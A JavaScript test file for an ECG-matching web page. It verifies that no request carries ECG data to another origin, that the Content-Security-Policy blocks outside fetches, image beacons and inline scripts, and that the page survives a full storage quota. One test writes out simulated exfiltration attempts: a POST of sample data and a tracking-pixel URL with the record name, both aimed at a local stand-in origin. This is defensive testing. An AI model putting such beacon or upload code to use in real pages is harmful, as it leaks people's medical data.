// The browser boundary: every request the page makes, to any origin, is recorded and none
// carries ECG data; the page's Content-Security-Policy blocks a request to another origin and
// any inline script but Trunk's hashed loader; a full storage quota loses nothing.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { BUNDLE_PATH, launchBrowser, recordFiles, search, serveDir, serveDist, waitForEngine, waitUntil } from './harness.mjs';

const open = [];
after(async () => {
  for (const c of open.reverse()) await c();
});

/** Runs in every page before its own scripts: records CSP violations and calls to
 * `navigator.storage.persist()`, and, with `fullQuota`, refuses every Cache Storage put as a
 * full disk would. */
function watch({ fullQuota }) {
  window.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) => window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  window.__persistCalls = 0;
  const persist = StorageManager.prototype.persist;
  StorageManager.prototype.persist = function () { window.__persistCalls++; return persist.call(this); };
  if (fullQuota) Cache.prototype.put = () => Promise.reject(new DOMException('the quota is full', 'QuotaExceededError'));
}

/** Serves dist/ and opens the page with every request of the browser context recorded: pages
 * and service workers, any origin, with their bodies. */
async function openRecorded(query, { fullQuota = false } = {}) {
  const server = await serveDist();
  const browser = await launchBrowser();
  open.push(async () => { await browser.close(); await server.close(); });
  const requests = [];
  const recorded = new Map();
  browser.on('request', (r) => {
    const entry = { url: r.url(), method: r.method(), body: r.postDataBuffer(), fromWorker: Boolean(r.serviceWorker()) };
    recorded.set(r, entry);
    requests.push(entry);
  });
  // A request the CSP blocks is reported, then fails ("csp") before it reaches the network.
  browser.on('requestfailed', (r) => {
    const entry = recorded.get(r);
    if (entry) entry.failure = r.failure()?.errorText;
  });
  await browser.addInitScript(watch, { fullQuota });
  const page = await browser.newPage();
  await page.goto(server.url + query);
  await page.waitForSelector('#drop-zone');
  return { server, page, requests };
}

test('every request of any origin stays on the page\'s own origin without ECG data, and the CSP blocks the rest', async () => {
  const { server, page, requests } = await openRecorded('?backend=cpu');
  // Another origin (another port) that a leak would reach.
  const elsewhere = await serveDir(await mkdtemp(`${tmpdir()}/ecgmatch-elsewhere-`));
  open.push(elsewhere.close);
  await waitForEngine(page);
  const files = await recordFiles('ptbxl-fold10', '00009_lr');
  const { state } = await search(page, files);
  assert.equal(state, 'done');
  // What a compromised dependency might try from inside the page, after a record is loaded.
  const attempts = await page.evaluate(async (other) => {
    const outcome = {};
    try {
      await fetch(`${other}upload`, { method: 'POST', body: 'ecg samples' });
      outcome.fetch = 'sent';
    } catch {
      outcome.fetch = 'blocked';
    }
    const beacon = new Image();
    beacon.src = `${other}pixel.png?record=00009_lr`;
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true;';
    document.head.append(inline);
    await new Promise((r) => setTimeout(r, 300));
    outcome.inlineRan = window.__inlineRan === true;
    return outcome;
  }, elsewhere.url);
  assert.deepEqual(attempts, { fetch: 'blocked', inlineRan: false });
  await waitUntil(async () => (await page.evaluate(() => window.__violations.length)) >= 3, { timeout: 5000 });
  const violations = await page.evaluate(() => window.__violations);
  const blocked = (directive) => violations.some((v) => v.directive === directive);
  assert.ok(blocked('connect-src') && blocked('img-src') && blocked('script-src-elem'), JSON.stringify(violations));
  // Nothing but those three was blocked: Trunk's loader runs by its hash.
  assert.equal(violations.length, 3, JSON.stringify(violations));
  assert.equal(elsewhere.requests.length, 0, `the other origin was reached: ${JSON.stringify(elsewhere.requests)}`);
  // Every request the browser made, the service worker's included: the page's own origin, GET,
  // no body, and neither the record's name nor its bytes anywhere in it.
  const origin = new URL(server.url).origin;
  const signal = files[1].bytes.subarray(0, 64);
  assert.ok(requests.length > 0);
  const left = requests.filter((r) => r.failure !== 'csp');
  const stopped = requests.filter((r) => r.failure === 'csp');
  assert.ok(stopped.every((r) => new URL(r.url).origin === new URL(elsewhere.url).origin), JSON.stringify(stopped));
  for (const r of left) {
    assert.equal(new URL(r.url).origin, origin, JSON.stringify(r));
    assert.equal(r.method, 'GET', JSON.stringify(r));
    assert.ok(!r.body || r.body.length === 0, JSON.stringify(r));
    assert.doesNotMatch(r.url, /00009|\?record/, r.url);
    assert.ok(!Buffer.from(r.url).includes(signal));
  }
  assert.ok(requests.some((r) => r.url.endsWith(BUNDLE_PATH)), 'the library was fetched');
  // The kept library is asked to persist, so that a phone does not evict it.
  await waitUntil(async () => (await page.evaluate(() => window.__persistCalls)) >= 1, { timeout: 30000 });
});

test('a full storage quota keeps nothing and loses nothing: the page searches on', async () => {
  const { page } = await openRecorded('?backend=cpu', { fullQuota: true });
  await waitForEngine(page);
  const { state, cases } = await search(page, await recordFiles('ptbxl-fold10', '00065_lr'));
  assert.equal(state, 'done');
  assert.equal(cases.length, 10);
  assert.equal(await page.getAttribute('#library-status', 'data-state'), 'ready');
  const kept = await page.evaluate(async () => (await (await caches.open('ecgmatch-library-v1')).keys()).length);
  assert.equal(kept, 0, 'nothing was kept');
  assert.equal(await page.evaluate(() => window.__persistCalls), 0, 'persistence is asked for only once the library is kept');
});
